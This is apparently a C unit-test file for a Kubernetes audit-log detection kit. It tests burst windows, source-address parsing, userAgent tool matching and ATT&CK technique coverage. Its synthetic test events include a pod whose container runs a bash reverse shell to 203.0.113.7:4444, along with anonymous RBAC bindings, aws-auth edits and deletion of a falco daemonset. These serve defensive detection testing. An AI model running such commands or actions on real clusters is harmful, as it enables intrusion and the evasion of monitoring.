/* The detector kit: the windowed burst counter, source addresses and the
 * caller (the tool a userAgent names, the per-event memo), the
 * documentation written from a definition, and the ATT&CK techniques each
 * built-in detector declares against the ones it reports: on the sample,
 * every corpus file, the hostile records, the benchmark generator's stream
 * and events made for the techniques those do not reach, no verdict may
 * name a technique its detector does not declare, and every declared
 * technique is reported by some finding. */
#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "../bench/gen.h"
#include "alloc-private.h"
#include "detector-private.h"
#include "detectors/burst-private.h"
#include "detectors/caller-private.h"
#include "finding-private.h"
#include "testutil.h"

/* ---- the burst counter ---- */

typedef struct {
	kag__policy policy;
	kag__ctx ctx;
	kag__burst b;
} burst_fixture;

static void burst_init(burst_fixture *x, uint64_t late_s)
{
	memset(x, 0, sizeof(*x));
	kag__policy_defaults(&x->policy);
	x->policy.late_us = late_s * 1000000;
	x->ctx.policy = &x->policy;
}

static int count_at(burst_fixture *x, int64_t s, int late_from)
{
	x->ctx.now_us = s * 1000000;
	return kag__window_count(&x->b.w, &x->ctx, 60 * 1000000, late_from);
}

START_TEST(burst_window)
{
	burst_fixture x;

	burst_init(&x, 10);
	ck_assert_int_eq(count_at(&x, 100, KAG__LATE_FROM_FIRST), KAG__WINDOW_OPENED);
	ck_assert_int_eq(count_at(&x, 130, KAG__LATE_FROM_FIRST), KAG__WINDOW_COUNTED);
	/* the window's last second */
	ck_assert_int_eq(count_at(&x, 160, KAG__LATE_FROM_FIRST), KAG__WINDOW_COUNTED);
	ck_assert_uint_eq(x.b.w.count, 3);
	ck_assert_int_eq(x.b.w.first_us, 100 * 1000000);
	ck_assert_int_eq(x.b.w.last_us, 160 * 1000000);
	ck_assert_int_eq(kag__window_due(&x.b.w, x.b.w.count, 4), 0);
	ck_assert_int_eq(kag__window_due(&x.b.w, x.b.w.count, 3), 1);
	ck_assert_int_eq(kag__window_due(&x.b.w, x.b.w.count, 3), 0);   /* once a window */
	/* after the window: a new one, nothing carried over */
	kag__burst_target(&x.b, "a");
	x.ctx.now_us = 161 * 1000000;
	ck_assert_int_eq(kag__burst_count(&x.b, &x.ctx, 60 * 1000000, KAG__LATE_FROM_FIRST), 1);
	ck_assert_uint_eq(x.b.w.count, 1);
	ck_assert_uint_eq(x.b.n_targets, 0);
	ck_assert_int_eq(x.b.w.reported, 0);
	ck_assert_int_eq(x.b.w.first_us, 161 * 1000000);
}
END_TEST

/* Late events: within the allowance they count and move the window's
 * start back. Measured from the first event, each late one stretches the
 * allowance for the next; measured from the newest, it does not. */
START_TEST(burst_lateness)
{
	burst_fixture x;

	burst_init(&x, 10);
	ck_assert_int_eq(count_at(&x, 100, KAG__LATE_FROM_FIRST), KAG__WINDOW_OPENED);
	ck_assert_int_eq(count_at(&x, 89, KAG__LATE_FROM_FIRST), KAG__WINDOW_LATE); /* 11 s */
	ck_assert_int_eq(count_at(&x, 91, KAG__LATE_FROM_FIRST), KAG__WINDOW_COUNTED);
	ck_assert_int_eq(x.b.w.first_us, 91 * 1000000);
	ck_assert_int_eq(count_at(&x, 82, KAG__LATE_FROM_FIRST), KAG__WINDOW_COUNTED); /* from 91 */
	ck_assert_uint_eq(x.b.w.count, 3);

	burst_init(&x, 10);
	ck_assert_int_eq(count_at(&x, 100, KAG__LATE_FROM_NEWEST), KAG__WINDOW_OPENED);
	ck_assert_int_eq(count_at(&x, 91, KAG__LATE_FROM_NEWEST), KAG__WINDOW_COUNTED);
	/* 18 s before the newest, 100 */
	ck_assert_int_eq(count_at(&x, 82, KAG__LATE_FROM_NEWEST), KAG__WINDOW_LATE);
	ck_assert_int_eq(count_at(&x, 120, KAG__LATE_FROM_NEWEST), KAG__WINDOW_COUNTED);
	/* within the window: counted, whatever the allowance */
	ck_assert_int_eq(count_at(&x, 105, KAG__LATE_FROM_NEWEST), KAG__WINDOW_COUNTED);
	ck_assert_uint_eq(x.b.w.count, 4);
	ck_assert_int_eq(x.b.w.last_us, 120 * 1000000);
}
END_TEST

START_TEST(burst_targets)
{
	burst_fixture x;
	kag_finding f;
	char name[16];
	size_t i;

	burst_init(&x, 0);
	count_at(&x, 1, KAG__LATE_FROM_FIRST);
	count_at(&x, 2, KAG__LATE_FROM_FIRST);
	for (i = 0; i < 40; i++) {
		snprintf(name, sizeof(name), "t%zu", i % 35);
		kag__burst_target(&x.b, name);
		if (i == 15)
			kag__burst_target(&x.b, "t3");
	}
	ck_assert_uint_eq(x.b.n_targets, KAG__BURST_TARGETS);
	ck_assert_str_eq(x.b.targets[0], "t0");
	ck_assert_str_eq(x.b.targets[KAG__MAX_DISTINCT - 1], "t15");
	/* a threshold beyond what a window keeps is met when it is full */
	ck_assert_int_eq(kag__burst_due(&x.b, 1000), 1);

	memset(&f, 0, sizeof(f));
	x.ctx.time_inferred = 1;
	f.confidence = KAG_CONFIDENCE_HIGH;
	kag__correlate_burst(&f, &x.ctx, &x.b);
	ck_assert_uint_eq(f.corr_count, 2);
	ck_assert_int_eq(f.corr_first_us, 1000000);
	ck_assert_int_eq(f.corr_last_us, 2000000);
	ck_assert_uint_eq(f.n_distinct, KAG__MAX_DISTINCT);
	ck_assert_str_eq(f.distinct[3], "t3");
	ck_assert_int_eq(f.confidence, KAG_CONFIDENCE_MEDIUM);
	ck_assert_uint_eq(f.n_missing, 1);
	ck_assert_int_eq(f.missing[0], KAG_FIELD_STAGE_TS);
}
END_TEST

/* ---- documentation written from a definition ---- */

static char *doc_of(const kag__detector_def *d)
{
	kag_buf b;

	kag__buf_init(&b);
	kag__detector_doc(&b, d);
	kag__buf_terminate(&b);
	ck_assert(!b.oom);
	return b.data;
}

START_TEST(doc_written_from_definition)
{
	static const int required[] = { KAG_FIELD_USER_USERNAME, KAG_FIELD_VERB };
	static const kag__technique attack[] = {
		KAG__PRIMARY("T1528", "tokens"),
		KAG__TECHNIQUE("T1552.007", "tokens"),
		KAG__PRIMARY("T1649", NULL),
		KAG__TECHNIQUE("T1098.006", "certificates"),
		{ NULL }
	};
	kag__detector_def d = {
		.about = {
			.finds = "what it finds, in words that run past the seventy-eight "
				 "columns of a line so that they wrap",
			.fields = "objectRef.name",
			.level = "more on the level",
			.false_positives = "guidance",
			.peers = "peers",
		},
		.attack = attack,
		KAG__REQUIRED(required),
		.min_level = KAG_LEVEL_REQUEST,
		.needs_outcome = 1,
	};
	char *doc = doc_of(&d);

	ck_assert_str_eq(doc,
		"finds: what it finds, in words that run past the seventy-eight columns of a\n"
		"  line so that they wrap\n"
		"decisive fields: user.username, verb, outcome (absent => needs_context);\n"
		"  objectRef.name\n"
		"level: Request (without the request body: needs_context; more on the level)\n"
		"ATT&CK: T1528, T1552.007 (tokens); T1649; T1098.006 (certificates)\n"
		"false positives: guidance\n"
		"peer rules: peers");
	kag__free(doc);

	d = (kag__detector_def){ .min_level = KAG_LEVEL_METADATA };
	doc = doc_of(&d);
	ck_assert_str_eq(doc, "decisive fields: none\nlevel: Metadata\nATT&CK: none");
	kag__free(doc);
}
END_TEST

/* ---- declared and reported techniques ---- */

typedef struct {
	tu_ctx t;
	size_t seen;                 /* verdict lines checked */
	/* reported[i][j]: a finding of entry i named its technique j */
	unsigned char reported[64][16];
} techniques;

/* The index of technique id in entry i's declaration, or -1. */
static int declared(const techniques *x, size_t i, const char *id)
{
	const kag__technique *a = x->t.reg->entries[i].def.attack;
	int j;

	for (j = 0; a && a[j].id; j++)
		if (strcmp(a[j].id, id) == 0)
			return j;
	return -1;
}

/* Check the verdicts judged since the last call. */
static void check_verdicts(techniques *x, const char *input)
{
	for (; x->seen < x->t.n_verdicts; x->seen++) {
		const char *line = x->t.lines[x->seen];
		json_t *v = json_loads(line, 0, NULL), *a, *id;
		const char *det, *assessment;
		size_t i, k;
		int j;

		ck_assert_ptr_nonnull(v);
		det = json_string_value(json_object_get(v, "detector"));
		assessment = json_string_value(json_object_get(v, "assessment"));
		ck_assert_ptr_nonnull(det);
		ck_assert_int_eq(kag_registry_find(&i, x->t.reg, det), KAG_OK);
		ck_assert_uint_lt(i, 64);
		a = json_object_get(v, "attack");
		json_array_foreach(a, k, id) {
			j = declared(x, i, json_string_value(id));
			ck_assert_msg(j >= 0, "%s: %s reports %s, which it does not declare:\n%s",
				      input, det, json_string_value(id), line);
			ck_assert_int_lt(j, 16);
			/* verdicts the gate stopped name what is declared primary */
			if (strcmp(assessment, "needs_context") != 0)
				x->reported[i][j] = 1;
		}
		json_decref(v);
	}
}

static void judge_data_file(techniques *x, const char *relpath)
{
	tu_judge_file(&x->t, relpath);
	check_verdicts(x, relpath);
}

/* Events written with ' for ". */
static void judge_quoted(techniques *x, const char *events)
{
	size_t n = strlen(events), errors = x->t.n_errors, i;
	char *json = malloc(n + 1);

	ck_assert_ptr_nonnull(json);
	for (i = 0; i <= n; i++)
		json[i] = events[i] == '\'' ? '"' : events[i];
	tu_judge(&x->t, json, (size_t)-1);
	free(json);
	ck_assert_msg(x->t.n_errors == errors, "parse error: %s", x->t.errors[errors]);
	check_verdicts(x, events);
}

#define OK200 "'responseStatus':{'code':200},'stage':'ResponseComplete'"
#define OK201 "'responseStatus':{'code':201},'stage':'ResponseComplete'"
#define DEV "'user':{'username':'dev@example.com'}"

/* Requests for the techniques that the corpus, the sample and the
 * benchmark stream do not reach. */
static const char *const made[] = {
	/* anonymous_access T1610: an anonymous pod write */
	"{'verb':'create','user':{'username':'system:anonymous','groups':"
	"['system:unauthenticated']},'requestURI':'/api/v1/namespaces/default/pods',"
	"'objectRef':{'resource':'pods','namespace':'default','name':'x'}," OK201 "}",
	/* control_plane_tampering: events deleted, a webhook removed, cluster DNS
	 * and aws-auth changed */
	"{'verb':'delete'," DEV ",'objectRef':{'resource':'events','namespace':'default',"
	"'name':'e1'}," OK200 "}",
	"{'verb':'delete'," DEV ",'objectRef':{'resource':'validatingwebhookconfigurations',"
	"'name':'policy'}," OK200 "}",
	"{'verb':'update'," DEV ",'objectRef':{'resource':'configmaps','namespace':"
	"'kube-system','name':'coredns'}," OK200 "}",
	"{'verb':'patch'," DEV ",'objectRef':{'resource':'configmaps','namespace':"
	"'kube-system','name':'aws-auth'}," OK200 "}",
	/* discovery T1069.003: kubectl auth can-i --list */
	"{'verb':'create'," DEV ",'objectRef':{'resource':'selfsubjectrulesreviews',"
	"'apiGroup':'authorization.k8s.io'}," OK201 "}",
	/* node_proxy: a command run through the kubelet, and its metrics */
	"{'verb':'create'," DEV ",'requestURI':'/api/v1/nodes/n1/proxy/run/prod/p/c',"
	"'objectRef':{'resource':'nodes','name':'n1','subresource':'proxy'}," OK200 "}",
	"{'verb':'get'," DEV ",'requestURI':'/api/v1/nodes/n1/proxy/metrics',"
	"'objectRef':{'resource':'nodes','name':'n1','subresource':'proxy'}," OK200 "}",
	/* rbac_escalation T1078.001: a binding for anonymous */
	"{'verb':'create'," DEV ",'objectRef':{'resource':'clusterrolebindings','name':'anon'},"
	OK201 ",'requestObject':{'roleRef':{'kind':'ClusterRole','name':'view'},"
	"'subjects':[{'kind':'User','name':'system:anonymous'}]}}",
	/* persistence_workload T1098.006: a role, then a deployment */
	"{'verb':'create','stageTimestamp':'2024-05-01T10:00:00Z'," DEV ",'objectRef':"
	"{'resource':'roles','namespace':'prod','name':'r'}," OK201 "}\n"
	"{'verb':'create','stageTimestamp':'2024-05-01T10:00:10Z'," DEV ",'objectRef':"
	"{'resource':'deployments','namespace':'prod','name':'d'}," OK201 "}",
	/* privileged_workload T1059.004: a container started as a reverse shell */
	"{'verb':'create'," DEV ",'objectRef':{'resource':'pods','namespace':'prod','name':"
	"'p'}," OK201 ",'requestObject':{'spec':{'containers':[{'name':'c','image':'alpine',"
	"'command':['sh','-c','bash -i >& /dev/tcp/203.0.113.7/4444 0>&1']}]}}}",
	/* destructive_delete T1485, T1489, T1070: a secret, a daemonset and a
	 * CSR deleted by a person */
	"{'verb':'delete'," DEV ",'objectRef':{'resource':'secrets','namespace':'prod',"
	"'name':'db'}," OK200 "}",
	"{'verb':'delete'," DEV ",'objectRef':{'resource':'daemonsets','namespace':"
	"'kube-system','name':'falco'}," OK200 "}",
	"{'verb':'delete'," DEV ",'objectRef':{'resource':'certificatesigningrequests',"
	"'name':'csr-1'}," OK200 "}",
	/* hygiene T1136, T1610: an account in kube-system, a pod in default */
	"{'verb':'create'," DEV ",'objectRef':{'resource':'serviceaccounts','namespace':"
	"'kube-system','name':'helper'}," OK201 "}",
	"{'verb':'create'," DEV ",'objectRef':{'resource':'pods','namespace':'default',"
	"'name':'debug'}," OK201 "}",
	/* configmap_credentials T1552: a private key in a ConfigMap */
	"{'verb':'create'," DEV ",'objectRef':{'resource':'configmaps','namespace':'prod',"
	"'name':'tls'}," OK201 ",'requestObject':{'data':{'key.pem':'-----BEGIN PRIVATE "
	"KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\\n-----END PRIVATE KEY-----'}}}",
	NULL
};

START_TEST(techniques_declared_and_reported)
{
	static techniques x;
	struct bench_stream s;
	char **files;
	size_t n, i, j;

	kag_registry *reg;

	memset(&x, 0, sizeof(x));
	/* known_bad_source needs a list: one address of the sample stream */
	ck_assert_int_eq(kag_registry_new(&reg), KAG_OK);
	ck_assert_int_eq(kag_registry_load_addresses(reg, "test-list", "203.0.113.10\n", 13),
			 KAG_OK);
	tu_init_registry(&x.t, reg);
	judge_data_file(&x, "../../examples/sample-audit.jsonl");
	judge_data_file(&x, "../golden/hostile.jsonl");
	files = tu_data_files(&n, 0);
	for (i = 0; i < n; i++)
		judge_data_file(&x, files[i]);
	tu_free_files(files, n);
	memset(&s, 0, sizeof(s));
	ck_assert_int_eq(bench_generate(&s, 4000, 1), 0);
	tu_judge(&x.t, s.data, s.len);
	check_verdicts(&x, "the benchmark stream");
	bench_stream_free(&s);
	for (i = 0; made[i]; i++)
		judge_quoted(&x, made[i]);

	for (i = 0; i < kag_registry_count(x.t.reg); i++) {
		const kag__detector_def *d = &x.t.reg->entries[i].def;

		for (j = 0; d->attack && d->attack[j].id; j++)
			ck_assert_msg(x.reported[i][j], "%s declares %s, which no finding reported",
				      d->id, d->attack[j].id);
	}
	tu_free(&x.t);
}
END_TEST

/* ---- addresses and the caller ---- */

/* sourceIPs entries as clients and providers write them: a dotted quad
 * alone or with a :port or %zone, a bracketed one, IPv6 with a zone, and
 * what is not an address. */
START_TEST(address_forms)
{
	static const struct {
		const char *s;
		int ok, v6;
		unsigned char a4[4];
	} cases[] = {
		{ "10.0.0.3", 1, 0, { 10, 0, 0, 3 } },
		{ "203.0.113.7:443", 1, 0, { 203, 0, 113, 7 } },
		{ "203.0.113.7:", 1, 0, { 203, 0, 113, 7 } },
		{ "192.168.1.20%eth0", 1, 0, { 192, 168, 1, 20 } },
		{ "192.168.1.20:80%eth0", 1, 0, { 192, 168, 1, 20 } },
		{ "[198.51.100.9]:8443", 1, 0, { 198, 51, 100, 9 } },
		{ "0.0.0.0", 1, 0, { 0, 0, 0, 0 } },
		{ "255.255.255.255", 1, 0, { 255, 255, 255, 255 } },
		{ "2001:db8::1", 1, 1, { 0 } },
		{ "::ffff:10.1.2.3", 1, 1, { 0 } },
		{ "fe80::1%eth0", 1, 1, { 0 } },
		{ "1.2.3.4:80:90", 0, 0, { 0 } },
		{ "1.2.3.256", 0, 0, { 0 } },
		{ "01.2.3.4", 0, 0, { 0 } },
		{ "1.2.3.04", 0, 0, { 0 } },
		{ "1.2.3", 0, 0, { 0 } },
		{ "1.2.3.4.5", 0, 0, { 0 } },
		{ "1.2.3.4x", 0, 0, { 0 } },
		{ "1.2.3.1234", 0, 0, { 0 } },
		{ "1.2.3.0255", 0, 0, { 0 } },
		{ "10.0.0.300", 0, 0, { 0 } },
		{ "1.02.3.4", 0, 0, { 0 } },
		{ "100.200.250.255:8080", 1, 0, { 100, 200, 250, 255 } },
		{ "9.99.199.0", 1, 0, { 9, 99, 199, 0 } },
		{ "1..2.3", 0, 0, { 0 } },
		{ "localhost", 0, 0, { 0 } },
		{ "", 0, 0, { 0 } },
	};
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		kag_str str = { cases[i].s, strlen(cases[i].s) };
		kag__ip ip;
		int ok = kag__ip_parse(str, &ip);

		ck_assert_msg(ok == cases[i].ok, "%s: %d", cases[i].s, ok);
		if (!ok)
			continue;
		ck_assert_int_eq(ip.v6, cases[i].v6);
		if (!ip.v6)
			ck_assert_msg(memcmp(ip.a, cases[i].a4, 4) == 0, "%s", cases[i].s);
	}
}
END_TEST

static void caller_event(kag_event *ev, const char *user, const char *agent, const char *ip)
{
	ck_assert_int_eq(kag_event_clear(ev), KAG_OK);
	ck_assert_int_eq(kag_event_set_string(ev, KAG_FIELD_USER_USERNAME, user, strlen(user),
					      KAG_STATE_OBSERVED), KAG_OK);
	if (agent)
		ck_assert_int_eq(kag_event_set_string(ev, KAG_FIELD_USER_AGENT, agent,
						      strlen(agent), KAG_STATE_OBSERVED), KAG_OK);
	if (ip)
		ck_assert_int_eq(kag_event_add_item(ev, KAG_FIELD_SOURCE_IPS, ip, strlen(ip),
						    KAG_STATE_OBSERVED), KAG_OK);
}

/* A userAgent, and the tool it names (NULL: none). */
struct agent_tool {
	const char *agent, *tool;
};

/* The tool a userAgent names, whatever its case: each listed tool, and
 * agents that only look like one. */
START_TEST(caller_tools)
{
	static const struct agent_tool cases[] = {
		{ "kubectl/v1.30.2 (linux/amd64) kubernetes/3c2d0b4", "kubectl" },
		{ "KUBECTL/v1.29.4", "kubectl" },
		{ "oc/4.15.0 (linux/amd64)", "oc" },
		{ "curl/8.5.0", "curl" },
		{ "Wget/1.21.4", "wget" },
		{ "python-requests/2.31.0", "python-requests" },
		{ "Python-urllib/3.11", "python-urllib" },
		{ "python-httpx/0.27.0", "python-httpx" },
		{ "aiohttp/3.9.3", "aiohttp" },
		{ "HTTPie/3.2.2", "HTTPie" },
		{ "Go-http-client/1.1", "Go-http-client" },
		{ "okhttp/4.12.0", "okhttp" },
		{ "axios/1.6.7", "axios" },
		{ "node-fetch/1.0", "node-fetch" },
		{ "undici", "undici" },
		{ "Java/17.0.10", "Java" },
		{ "Java-http-client/17.0.10", "Java-http-client" },
		{ "Apache-HttpClient/4.5.14 (Java/17)", "Apache-HttpClient" },
		{ "libwww-perl/6.72", "libwww-perl" },
		{ "Ruby", "Ruby" },
		{ "Faraday v2.9.0", "Faraday" },
		{ "GuzzleHttp/7", "Guzzle" },
		{ "reqwest/0.11", "reqwest" },
		{ "PostmanRuntime/7.36.3", "Postman" },
		{ "insomnia/8.6.1", "Insomnia" },
		{ "Mozilla/5.0 (Windows NT 10.0) WindowsPowerShell/5.1", "a browser or PowerShell" },
		{ "k9s/v0.32.4 (linux/amd64)", "k9s" },
		{ "Lens/2024.4.230844", "Lens" },
		{ "kube-hunter", "kube-hunter" },
		{ "peirates", "peirates" },
		/* operators' clients, and near misses */
		{ "kubelet/v1.30.2 (linux/amd64) kubernetes/3c2d0b4", NULL },
		{ "kube-controller-manager/v1.30.2", NULL },
		{ "k9", NULL },
		{ "kube", NULL },
		{ "ocelot/1.0", NULL },
		{ "Java", NULL },
		{ "javascript/1", NULL },
		{ "helm/v3.14.4", NULL },
		{ "coredns/1.11.1", NULL },
		{ "1curl", NULL },
		{ "~", NULL },
		{ "zz-top", NULL },
		{ "\xc3\xa9" "curl", NULL },
		{ "K9S", "k9s" },
		{ "curl", "curl" },
		{ "cur", NULL },
		{ "CURL", "curl" },
		{ "PYTHON-REQUESTS/2.31", "python-requests" },
		{ "python-requestz/1", NULL },
		{ "apache-httpclienx", NULL },
		{ "java-http-clien", NULL },
		/* a byte past 0x7f is no letter, whatever its low seven bits */
		{ "c\xd5rl/8", NULL },
		{ "kubect\xcc", NULL },
	};
	kag__policy pol;
	kag_event *ev;
	kag__caller c;
	size_t i;

	kag__policy_defaults(&pol);
	ck_assert_int_eq(kag_event_new(&ev), KAG_OK);
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		caller_event(ev, "alice", cases[i].agent, "10.0.0.3");
		kag__caller_read(&c, ev, &pol);
		if (cases[i].tool)
			ck_assert_msg(c.tool && strcmp(c.tool, cases[i].tool) == 0, "%s: %s",
				      cases[i].agent, c.tool ? c.tool : "(none)");
		else
			ck_assert_msg(!c.tool, "%s: %s", cases[i].agent, c.tool);
		ck_assert_int_eq(c.no_agent, 0);
	}
	caller_event(ev, "alice", "", "10.0.0.3");
	kag__caller_read(&c, ev, &pol);
	ck_assert_ptr_null(c.tool);
	ck_assert_int_eq(c.no_agent, 1);
	kag_event_free(ev);
}
END_TEST

/* A detector's view of the caller, through the event's memo or without
 * one, in any order of asking (one part first, or the whole caller): what
 * kag__caller_read() and kag__source_kind() say. */
START_TEST(caller_memo)
{
	static const struct {
		int source;
		const char *user, *agent, *ip;
	} cases[] = {
		{ KAG__SOURCE_PRIVATE, "system:serviceaccount:prod:web", "client/1", "10.0.0.3" },
		{ KAG__SOURCE_PUBLIC, "alice", "kubectl/v1.30", "198.51.100.7" },
		{ KAG__SOURCE_PRIVATE, "alice", "kubectl/v1.30", "203.0.113.9:443" }, /* trusted */
		{ KAG__SOURCE_UNKNOWN, "bob", NULL, "not-an-address" },
		{ KAG__SOURCE_UNKNOWN, "bob", "curl/8", NULL },
		{ KAG__SOURCE_PRIVATE, "system:serviceaccount:kube-system:deployer", "",
		  "10.0.0.4" },
		{ KAG__SOURCE_PRIVATE, "system:serviceaccount:prod:a:b", "Go-http-client/1.1",
		  "10.0.0.4" },
	};
	static const char *nets[] = { "203.0.113.0/24" };
	kag__policy pol;
	kag_event *ev;
	size_t i;
	int order;

	kag__policy_defaults(&pol);
	pol.trusted_networks.items = nets;
	pol.trusted_networks.n = 1;
	ck_assert_int_eq(kag_event_new(&ev), KAG_OK);
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		kag__caller want, got;

		caller_event(ev, cases[i].user, cases[i].agent, cases[i].ip);
		kag__caller_read(&want, ev, &pol);
		ck_assert_int_eq(want.source, cases[i].source);
		ck_assert_int_eq(kag__source_kind(ev, &pol), cases[i].source);
		/* the source first, the tool first, the whole caller first; and
		 * no memo */
		for (order = 0; order < 4; order++) {
			struct kag__caller_memo memo = { 0 };
			kag__ctx ctx;

			memset(&ctx, 0, sizeof(ctx));
			ctx.policy = &pol;
			ctx.caller_memo = order < 3 ? &memo : NULL;
			if (order == 0)
				ck_assert_int_eq(kag__caller_source(&ctx, ev), cases[i].source);
			if (order == 1)
				ck_assert_ptr_eq(kag__caller_tool(&ctx, ev), want.tool);
			kag__caller_get(&got, &ctx, ev);
			ck_assert_int_eq(kag__caller_source(&ctx, ev), cases[i].source);
			ck_assert_ptr_eq(kag__caller_tool(&ctx, ev), want.tool);
			ck_assert_int_eq(got.source, want.source);
			ck_assert_ptr_eq(got.tool, want.tool);
			ck_assert_int_eq(got.no_agent, want.no_agent);
			ck_assert_int_eq(got.groups_ok, want.groups_ok);
			ck_assert_ptr_eq(got.sa_ns.ptr, want.sa_ns.ptr);
			ck_assert_uint_eq(got.sa_name.len, want.sa_name.len);
		}
	}
	kag_event_free(ev);
}
END_TEST

static Suite *suite(void)
{
	Suite *s = suite_create("kit");
	TCase *tc;

	tc = tcase_create("burst");
	tcase_add_test(tc, burst_window);
	tcase_add_test(tc, burst_lateness);
	tcase_add_test(tc, burst_targets);
	suite_add_tcase(s, tc);

	tc = tcase_create("caller");
	tcase_add_test(tc, address_forms);
	tcase_add_test(tc, caller_tools);
	tcase_add_test(tc, caller_memo);
	suite_add_tcase(s, tc);

	tc = tcase_create("doc");
	tcase_add_test(tc, doc_written_from_definition);
	suite_add_tcase(s, tc);

	tc = tcase_create("techniques");
	tcase_add_test(tc, techniques_declared_and_reported);
	suite_add_tcase(s, tc);
	return s;
}

int main(void)
{
	SRunner *sr = srunner_create(suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed ? 1 : 0;
}
